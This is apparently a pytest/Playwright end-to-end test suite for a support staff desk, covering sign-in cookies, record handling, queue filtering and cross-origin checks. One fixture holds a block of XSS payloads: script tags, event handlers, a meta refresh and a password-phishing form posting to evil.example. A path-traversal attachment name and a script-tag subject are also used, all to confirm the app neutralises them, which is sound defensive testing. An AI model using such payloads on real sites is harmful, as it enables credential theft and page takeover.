"""The staff's desk: from signing in with the user pool to a record that is dealt with, in each language."""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect

from kept.entry.language import language as spoken
from tests.browser.conftest import NARROW, WIDE, Visitor, violations, visitor
from tests.e2e.conftest import Site, eventually

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

HOSTILE = """<html><head><style>body { display: none } * { position: fixed; background: url(http://evil.example/x) }
</style><meta http-equiv="refresh" content="0; url=http://evil.example/"><base href="http://evil.example/"></head>
<body onload="document.title = 'taken over'"><script>document.title = 'taken over'</script>
<img src="http://evil.example/pixel.gif" onerror="document.title = 'taken over'">
<form action="http://evil.example/" method="post"><input name="password"><button>Sign in again</button></form>
<iframe src="http://evil.example/"></iframe><svg onload="document.title = 'taken over'"></svg>
<link rel="stylesheet" href="http://evil.example/x.css"><a href="javascript:document.title='taken over'">Click me</a>
<p>Where is my parcel?</p></body></html>"""


def sign_in(visit: Visitor, site: Site) -> None:
    """Through the user pool's own page, as a person does."""
    visit.goto("/desk")
    visit.page.wait_for_url(f"**/desk/{visit.language}/sign-in")
    visit.check("desk-sign-in")
    assert visit.cookies() == []
    visit.page.click("main form button")
    (cookie,) = visit.cookies()
    assert (cookie["name"], cookie["sameSite"]) == ("__Host-kept-sign-in", "Lax")
    assert cookie["expires"] - time.time() <= 300
    visit.page.fill("#username", site.stack.staff_name)
    visit.page.fill("#password", site.stack.staff_password)
    visit.page.click("button[type=submit]")
    visit.page.wait_for_url("**/desk/callback**")
    visit.complaints.clear()  # what the user pool's page says is not ours
    visit.check("desk-signed-in")
    (cookie,) = visit.cookies()
    assert (cookie["name"], cookie["sameSite"], cookie["httpOnly"], cookie["secure"]) == (
        "__Host-kept-staff", "Strict", True, True,
    )  # fmt: skip
    visit.page.click("main a.button")
    visit.page.wait_for_url(f"**/desk/{visit.language}")


def pool(site: Site) -> tuple[str]:
    """The host of the user pool's pages."""
    return (urlsplit(site.stack.endpoint).netloc,)


@pytest.fixture(scope="session")
def signed_in(chromium: Browser, site: Site) -> Any:
    """The cookies of a member of staff who has signed in."""
    with visitor(chromium, site.stack.api, hosts=pool(site)) as seen:
        sign_in(seen, site)
        return seen.context.storage_state()


@contextmanager
def at_desk(chromium: Browser, site: Site, signed_in: Any, **how: Any) -> Iterator[Visitor]:
    """A member of staff at work: from here on no request goes to the user pool."""
    with visitor(chromium, site.stack.api, state=signed_in, **how) as seen:
        yield seen


def contact(site: Site, **more: object) -> str:
    """A message in the queue; its reference."""
    body = {"email": f"ann-{time.time_ns()}@example.com", "name": "Ann أن", "message": "Where is my parcel?"} | more
    return str(site.request("POST", "/contacts", body).json["reference"])


@pytest.mark.promise("review-then-discard")
@pytest.mark.promise("security-measures")
def test_a_record_is_opened_noted_changed_and_reviewed(
    chromium: Browser, site: Site, signed_in: Any, language: str, script: bool, size: tuple[int, int]
) -> None:
    with at_desk(chromium, site, signed_in, language=language, script=script, size=size) as desk:
        deal_with_a_record(desk, site)


def deal_with_a_record(desk: Visitor, site: Site) -> None:
    reference, page = contact(site), desk.page
    desk.goto(f"/desk/{desk.language}")
    desk.check("desk-queue")
    desk.goto(f"/desk/{desk.language}/records/{reference}")
    desk.check("desk-record")
    page.fill("#note", "Called the courier.\n<b>Not bold</b>")
    page.click("form[action$='/notes'] button")
    expect(page.locator(".notes")).to_contain_text("<b>Not bold</b>")
    page.select_option("#kind", "complaint")
    page.click("form[action$='/kind'] button")
    expect(page.locator(".facts")).to_contain_text(spoken(desk.language).translate("complaint"))
    page.fill("#outcome", "Sent a new parcel.")
    page.click("form[action$='/review'] button")
    expect(page.locator(".facts")).to_contain_text("Sent a new parcel.")
    assert page.locator("form[action$='/review']").count() == 0
    desk.check("desk-record-reviewed")

    record = site.request("GET", f"/reviews/{reference}", staff=True).json
    assert (record["kind"], record["status"], record["outcome"]) == ("complaint", "reviewed", "Sent a new parcel.")
    assert record["answer_by"] > record["received_at"]
    assert len(record["openings"]) == 5, "four looks in the browser and this one"
    assert {opening["by"] for opening in record["openings"][:4]} == {note["by"] for note in record["notes"]}


def test_the_queue_is_looked_through_by_kind_status_deadline_intent_and_reason(
    chromium: Browser, site: Site, signed_in: Any, language: str
) -> None:
    sender = f"grace-{time.time_ns()}@example.org"
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, "support@expandcart.com", "Hello"
    mail.set_content("Please do not email me again.")
    site.send(mail.as_bytes(), sender)
    eventually(lambda: site.records_of(sender), "the mail became no record")
    complainer = f"carl-{time.time_ns()}@example.org"
    site.request("POST", "/complaints", {"email": complainer, "message": "You broke a promise."})
    with at_desk(chromium, site, signed_in, language=language) as desk:
        table = desk.page.locator(".queue")

        def look(**chosen: str) -> None:
            desk.goto(f"/desk/{language}")
            for name, value in chosen.items():
                if name == "reason":
                    desk.page.fill("#reason", value)
                else:
                    desk.page.select_option(f"#{name}", value)
            desk.page.click(".filters button")
            desk.page.wait_for_url("**reason=**")

        look(intent="opt_out", reason="not email me")
        expect(table).to_contain_text(sender)
        expect(table).not_to_contain_text(complainer)
        look(kind="complaint")
        expect(table).to_contain_text(complainer)
        expect(table).not_to_contain_text(sender)
        look(intent="opt_out", reason="no such words")
        assert table.count() == 0
        look(status="reviewed", kind="complaint", reason="")
        assert complainer not in desk.page.inner_text("main")
        look(due="overdue")
        assert complainer not in desk.page.inner_text("main"), "it is due in two weeks"


@pytest.mark.promise("security-measures")
@pytest.mark.promise("no-ad-partners")
def test_a_hostile_mail_is_inert_and_its_attachment_is_only_ever_saved(
    chromium: Browser, site: Site, signed_in: Any, language: str
) -> None:
    sender = f"mallory-{time.time_ns()}@example.net"
    mail = EmailMessage()
    mail["From"], mail["To"] = sender, "support@expandcart.com"
    mail["Subject"] = "<script>document.title='taken over'</script>"
    mail.set_content(HOSTILE, subtype="html")
    mail.add_attachment(HOSTILE.encode(), "text", "html", filename="../invoice<b>.html")
    site.send(mail.as_bytes(), sender)
    (record,) = eventually(lambda: site.records_of(sender), "the mail became no record")
    address = f"/desk/{language}/records/{record['reference']['S']}"
    with at_desk(chromium, site, signed_in, language=language, size=NARROW) as desk:
        desk.goto(address)
        desk.check("desk-hostile-mail")
        page = desk.page
        assert "Where is my parcel?" in page.inner_text(".letter")
        assert page.locator(".letter *").count() == 0, "the mail brought elements of its own"
        assert page.locator("script, iframe, img, base, meta[http-equiv]").count() == 0
        assert "taken over" not in page.title().replace("document.title='taken over'", "")
        assert not [host for host in desk.hosts if "evil" in host]
        with page.expect_download() as saved:
            page.click("a[href$='/files/0']")
        assert saved.value.suggested_filename == "_invoice_b_.html"
        assert saved.value.path().read_bytes().strip() == HOSTILE.encode().strip()
        with page.expect_download() as saved:
            page.click("a[href$='/files/mail']")
        assert saved.value.suggested_filename.endswith(".eml")
        answer = desk.context.request.get(site.stack.api + address + "/files/0")
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment;")


@pytest.mark.promise("phone-for-orders")
def test_the_gate_is_asked_by_hand_and_answers_with_its_promise(
    chromium: Browser, site: Site, signed_in: Any, language: str
) -> None:
    number, order = "+20 11 1400 0433", f"A-{time.time_ns()}"
    placed = {"email": "ada@example.org", "phone": number, "placed_online": True}
    placed_at = {"placed_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 60))}
    assert site.request("PUT", f"/orders/{order}", placed | placed_at, service=True).status == 200
    with at_desk(chromium, site, signed_in, language=language) as desk:
        for about, decision in ((order, "allowed"), ("another", "refused")):
            desk.goto(f"/desk/{language}/permission")
            desk.page.fill("#address", number)
            desk.page.fill("#order_id", about)
            desk.page.click("main form button")
            expect(desk.page.locator(".answer")).to_have_class(f"answer {decision}")
            desk.check(f"desk-permission-{decision}")
            assert "1400" not in desk.page.url


def test_what_is_said_by_telephone_is_put_into_the_queue(
    chromium: Browser, site: Site, signed_in: Any, language: str
) -> None:
    with at_desk(chromium, site, signed_in, language=language) as desk:
        desk.goto(f"/desk/{language}/call")
        desk.check("desk-call")
        desk.page.fill("#email", "caller@example.com")
        desk.page.select_option("#kind", "request")
        desk.page.fill("#text", "Wants to know what we hold.")
        desk.page.click("main form button")
        desk.page.wait_for_url("**/records/**")
        expect(desk.page.locator(".letter")).to_have_text("Wants to know what we hold.")


@pytest.mark.promise("login-cookies-only")
def test_signing_in_sets_one_cookie_and_signing_out_leaves_none_and_no_way_in(
    chromium: Browser, site: Site, language: str, script: bool, size: tuple[int, int]
) -> None:
    how = {"language": language, "script": script, "size": size}
    with visitor(chromium, site.stack.api, hosts=pool(site), **how) as desk:
        sign_in(desk, site)
        desk.page.click("nav.desk form button")
        desk.page.wait_for_url(f"**/desk/{language}/sign-in")
        assert desk.cookies() == []
        desk.goto(f"/desk/{language}")
        assert desk.page.inner_text("h1") == spoken(language).translate("Please sign in")
        desk.page.click("main a")
        expect(desk.page.locator("main form[action='/desk/sign-in']")).to_have_count(1)
        desk.complaints.clear()  # the browser says that the answer was a 401


@pytest.mark.parametrize("path", ["", "/call", "/permission"])
def test_the_desk_is_readable_in_the_dark(
    chromium: Browser, site: Site, signed_in: Any, language: str, path: str
) -> None:
    contact(site)
    with at_desk(chromium, site, signed_in, language=language, size=WIDE, scheme="dark") as desk:
        desk.goto(f"/desk/{language}{path}")
        desk.shoot("desk" + path.replace("/", "-"), "dark")
        assert violations(desk.page) == []


@pytest.mark.promise("security-measures")
def test_another_sites_page_can_do_nothing_with_a_members_cookie(site: Site) -> None:
    for headers in ({"Origin": "https://evil.example"}, {"Origin": "null", "Sec-Fetch-Site": "cross-site"}, {}):
        answer = site.request("POST", "/desk/en/call", {}, headers=headers)
        assert answer.status == 403
